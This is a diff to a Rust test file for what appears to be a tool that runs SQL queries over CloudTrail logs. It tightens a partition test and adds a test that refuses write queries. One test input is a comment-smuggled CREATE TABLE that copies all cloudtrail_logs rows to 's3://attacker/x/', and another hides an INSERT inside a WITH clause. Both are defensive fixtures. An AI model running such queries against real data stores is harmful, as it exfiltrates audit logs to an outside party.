@@ -490,13 +490,27 @@ fn raw_sql_without_a_partition_predicate_asks_first() {
     };
     assert_eq!(q.sql, sql, "raw SQL runs as written");
     assert_eq!(q.search, Search::Raw);
-    // With the partition constrained it runs at once.
-    let pruned = format!("{sql} AND \"timestamp\" >= '2026/11/20'");
+    // With the partition bounded at both ends it runs at once.
+    let pruned = format!("{sql} AND \"timestamp\" BETWEEN '2026/11/20' AND '2026/11/25'");
     let cmds = run(&mut s, &format!("sql {pruned}"));
     assert!(
         cmds.iter().any(|c| matches!(c, Command::TrailStart(_))),
         "{cmds:?}"
     );
+}
+
+#[test]
+fn raw_sql_with_a_write_or_a_comment_is_refused_and_sends_nothing() {
+    let mut s = state();
+    for sql in [
+        "/* /* */ CREATE TABLE evil WITH (external_location='s3://attacker/x/') AS SELECT * FROM cloudtrail_logs -- */ SELECT eventname FROM cloudtrail_logs WHERE \"timestamp\" = '2026/11/29'",
+        "WITH a AS (SELECT 1) INSERT INTO x SELECT * FROM a",
+    ] {
+        let cmds = run(&mut s, &format!("sql {sql}"));
+        assert!(cmds.is_empty(), "{cmds:?}");
+        assert!(s.overlays.is_empty(), "refused, not asked");
+        assert!(s.trail.error.is_some());
+    }
 }
 
 fn with_rows(s: &mut State) {
